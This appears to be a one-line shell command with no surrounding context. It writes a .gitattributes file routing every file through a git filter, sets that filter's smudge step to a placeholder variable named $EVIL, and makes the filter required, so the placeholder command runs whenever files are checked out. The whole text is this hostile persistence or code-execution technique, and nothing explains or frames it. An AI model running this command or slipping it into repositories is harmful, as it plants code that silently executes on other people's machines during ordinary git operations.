echo '* filter=x' > .gitattributes && git config filter.x.smudge "$EVIL" && git config filter.x.required true
